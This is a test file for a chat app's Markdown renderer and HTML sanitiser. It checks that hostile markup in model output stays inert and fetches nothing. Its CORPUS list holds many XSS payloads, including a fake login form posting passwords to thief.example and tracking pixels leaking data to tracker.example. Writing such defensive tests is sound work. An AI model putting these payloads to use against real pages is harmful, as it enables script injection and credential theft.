"""Model output as HTML: hostile text stays text, streaming draws what reading at once draws, nothing is fetched."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from playwright.sync_api import Page

RENDER = """async ([source, pieces]) => {
  const { MarkdownView } = await import("/static/js/render/markdown-view.js");
  const container = document.createElement("div");
  document.body.append(container);
  const view = new MarkdownView(container, { rest: 0 });
  let text = "";
  for (const piece of pieces) view.update(text += piece, { streaming: true });
  if (source !== null) view.update(source, { streaming: false });
  const html = container.innerHTML;
  container.remove();
  return html;
}"""

SANITISE = """async (html) => {
  const { sanitise } = await import("/static/js/render/sanitise.js");
  const container = document.createElement("div");
  container.append(sanitise(html));
  document.body.append(container);
  const nodes = [...container.querySelectorAll("*")];
  const found = {
    tags: [...new Set(nodes.map((node) => node.tagName.toLowerCase()))],
    foreign: nodes.filter((node) => node.namespaceURI !== "http://www.w3.org/1999/xhtml").length,
    attributes: nodes.flatMap((node) => [...node.attributes].map((one) => [one.name, one.value])),
    attacked: window.attacked === true,
  };
  container.remove();
  return found;
}"""

TAGS = {
    *(
        "h4",
        "h5",
        "h6",
        "p",
        "br",
        "hr",
        "blockquote",
        "ul",
        "ol",
        "li",
        "pre",
        "code",
        "em",
        "strong",
        "s",
        "del",
        "a",
    ),
    *("span", "table", "thead", "tbody", "tr", "th", "td", "img"),
}
ATTRIBUTES = {"href", "title", "class", "start", "src", "alt", "rel", "target"}

# Each line is an attack that has worked somewhere.
CORPUS = [
    "<script>attacked = true</script>",
    "<img src=x onerror='attacked = true'>",
    "<img src='https://tracker.example/pixel.gif?secret=words'>",
    "<img srcset='https://tracker.example/pixel.gif 1x'>",
    "<svg onload='attacked = true'><script>attacked = true</script></svg>",
    "<svg><a xlink:href='javascript:attacked = true'><text>x</text></a></svg>",
    "<svg><animate onbegin='attacked = true' attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.attacked = true</script>'></iframe></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=attacked=true>'></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=attacked=true&gt;'></math>",
    "<math href='javascript:attacked = true'>CLICK</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror='attacked = true'></annotation-xml></math>",
    "<a href='javascript:attacked = true'>x</a>",
    "<a href='  JaVaScRiPt:attacked = true'>x</a>",
    "<a href='java\tscript:attacked = true'>x</a>",
    "<a href='&#106;avascript:attacked = true'>x</a>",
    "<a href='vbscript:attacked = true'>x</a>",
    "<a href='data:text/html,<script>attacked = true</script>'>x</a>",
    "<a href='data:image/svg+xml,<svg onload=attacked=true>'>x</a>",
    "<a href='data:image/png;base64,iVBORw0KGgo='>x</a>",
    "<a href='/api/v1/threads/'>x</a>",
    "<a href='https://example.org' target='_self' rel='opener' ping='https://tracker.example'>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImF0dGFja2VkPXRydWUiLz4='>",
    "<iframe src='javascript:attacked = true'></iframe>",
    "<iframe srcdoc='<script>parent.attacked = true</script>'></iframe>",
    "<object data='javascript:attacked = true'></object><embed src='javascript:attacked = true'>",
    "<form action='https://thief.example'><input name=password><button>Log in again</button></form>",
    "<button formaction='javascript:attacked = true'>x</button>",
    "<meta http-equiv='refresh' content='0; url=https://thief.example'>",
    "<base href='https://thief.example/'>",
    "<link rel=stylesheet href='https://thief.example/x.css'>",
    "<style>@import 'https://thief.example/x.css'; * { background: url(https://thief.example) }</style>",
    "<p style='position: fixed; inset: 0; background: url(https://thief.example)'>x</p>",
    "<p class='dialog composer toast'>x</p>",
    "<p id='app' name='csrfmiddlewaretoken'>x</p>",
    "<div data-copy-code aria-label='Send'>x</div>",
    "<details open ontoggle='attacked = true'>x</details>",
    "<video><source onerror='attacked = true'></video><audio src=x onerror='attacked = true'></audio>",
    "<marquee onstart='attacked = true'>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=attacked=true>'></noscript>",
    "<template><img src=x onerror='attacked = true'></template>",
    "<textarea></textarea><img src=x onerror='attacked = true'>",
    "<x-coday onclick='attacked = true' is='x'>x</x-coday>",
    "<p onclick='attacked = true' autofocus tabindex=0 onfocus='attacked = true'>x</p>",
    "<table background='https://thief.example'><td style='x' background='https://thief.example'>x</td></table>",
]


@pytest.mark.parametrize("html", CORPUS)
def test_hostile_html_is_taken_apart(modules: Page, html: str) -> None:
    requests: list[str] = []
    modules.on("request", lambda request: requests.append(request.url))
    found = modules.evaluate(SANITISE, html)
    assert set(found["tags"]) <= TAGS
    assert found["foreign"] == 0
    assert not found["attacked"]
    attributes = dict(found["attributes"])
    assert set(attributes) <= ATTRIBUTES
    assert attributes.get("href", "https:").startswith(("https:", "mailto:", "tel:"))
    assert attributes.get("src", "data:image/png;").startswith(("data:image/png;",))
    assert not set(attributes.get("class", "").split()) & {"dialog", "composer", "toast"}
    assert [url for url in requests if "static" not in url] == []


@pytest.mark.parametrize("html", CORPUS)
def test_html_in_markdown_is_text(modules: Page, html: str) -> None:
    shown: str = modules.evaluate(RENDER, [f"Look: {html}", []])
    assert not any(
        f"<{tag}" in shown.lower() for tag in ("script", "svg", "math", "iframe", "form", "style", "meta", "img")
    )
    assert modules.evaluate("window.attacked === undefined")


ELSEWHERE = ["javascript:attacked=true", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "/admin/"]


@pytest.mark.parametrize("target", ELSEWHERE)
def test_markdown_links_lead_to_the_web_only(modules: Page, target: str) -> None:
    assert "href" not in render(modules, f"[click]({target}) ![image]({target})")


def test_links_say_where_they_lead_and_tell_nothing(modules: Page) -> None:
    shown = render(modules, "[the manual](https://docs.example.org/a?b=c)")
    assert 'rel="noopener noreferrer nofollow"' in shown
    assert 'target="_blank"' in shown
    assert 'title="https://docs.example.org/a?b=c"' in shown
    assert '<span class="link-host">docs.example.org</span>' in shown


def test_a_remote_image_is_a_link_and_is_not_fetched(modules: Page) -> None:
    requests: list[str] = []
    modules.on("request", lambda request: requests.append(request.url))
    shown = render(modules, "![chart](https://tracker.example/p.png?words=secret)")
    assert "<img" not in shown
    assert "Image on tracker.example" in shown
    assert [url for url in requests if "tracker" in url] == []


def test_code_is_highlighted_framed_and_can_be_copied(modules: Page) -> None:
    shown = render(modules, "```python\ndef f() -> int:\n    return 1  # <b>\n```")
    assert 'class="hljs-keyword"' in shown
    assert "data-copy-code" in shown
    assert "&lt;b&gt;" in shown
    assert "style=" not in render(modules, "| a | b |\n| :-: | --: |\n| 1 | 2 |")


blocks = st.sampled_from(
    [
        "Plain *words* with `code`.",
        "# Heading",
        "Setext\n---",
        "- one\n- two\n\n- three",
        "1. first\n\n   more\n2. second",
        "> quoted\nlazily",
        "```js\nlet x = 1;\n\n// end\n```",
        "    indented\n\n    code",
        "| a | b |\n| - | - |\n| 1 | 2 |",
        "***",
        "[a link][ref]",
        "[ref]: https://example.org 'Title'",
        "1. a\n\n2. b",
        "~~~\nnever closed",
        "<div>html</div>",
        "😀 astral 𝒳",
    ]
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(parts=st.lists(blocks, min_size=1, max_size=8), size=st.integers(1, 9))
def test_streamed_text_ends_as_the_same_text_read_at_once(modules: Page, parts: list[str], size: int) -> None:
    source = "\n\n".join(parts)
    pieces = [source[start : start + size] for start in range(0, len(source), size)]
    at_once = modules.evaluate(RENDER, [source, []])
    assert modules.evaluate(RENDER, [source, pieces]) == at_once


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(parts=st.lists(blocks.filter(lambda block: "ref" not in block), min_size=1, max_size=8), size=st.integers(1, 9))
def test_while_streaming_closed_blocks_need_no_second_look(modules: Page, parts: list[str], size: int) -> None:
    """Only link definitions may come after their use: without them the last streamed drawing is already the final one."""
    source = "\n\n".join(parts)
    pieces = [source[start : start + size] for start in range(0, len(source), size)]
    assert modules.evaluate(RENDER, [None, pieces]) == modules.evaluate(RENDER, [source, []])


def test_a_long_answer_keeps_its_finished_blocks(modules: Page) -> None:
    kept, drawn = modules.evaluate(
        """async (block) => {
          const { MarkdownView } = await import("/static/js/render/markdown-view.js");
          const container = document.createElement("div");
          const view = new MarkdownView(container, { rest: 0 });
          let text = block;
          view.update(text, { streaming: true });
          const first = container.firstElementChild;
          let drawn = 0;
          const observer = new MutationObserver((changes) => { drawn += changes.length; });
          observer.observe(container, { childList: true });
          for (let index = 0; index < 400; index += 1) view.update(text += block, { streaming: true });
          view.update(text, { streaming: false });
          drawn += observer.takeRecords().length;
          return [container.firstElementChild === first, drawn];
        }""",
        "A paragraph of an answer that is long, and gets longer with **each** block that arrives.\n\n",
    )
    assert kept
    assert drawn < 2 * 400


def render(page: Page, source: str) -> str:
    shown: Any = page.evaluate(RENDER, [source, []])
    return str(shown)


# --- Citations ------------------------------------------------------------------------------------------------------

CITE = """async ([source, ...known]) => {
  const { MarkdownView } = await import("/static/js/render/markdown-view.js");
  const container = document.createElement("div");
  const view = new MarkdownView(container, { rest: 0 });
  view.update(source);
  return known.map((ids) => {
    view.know(new Set(ids));
    return [...container.querySelectorAll("button.citation")].map((cited) => [cited.dataset.source, cited.textContent]);
  });
}"""


def test_only_a_source_that_is_known_can_be_opened(modules: Page) -> None:
    shown = modules.evaluate(CITE, ["[One](source:1) and [**two**](source:2)", [], ["1"], ["1", "2"], ["2"]])
    assert shown == [[], [["1", "One"]], [["1", "One"], ["2", "two"]], [["2", "two"]]]


def test_a_source_that_is_not_known_is_text_with_a_hint(modules: Page) -> None:
    shown = render(modules, "[One](source:1)")
    assert "<button" not in shown
    assert "may be made up" in shown
    assert "unknown source" in shown
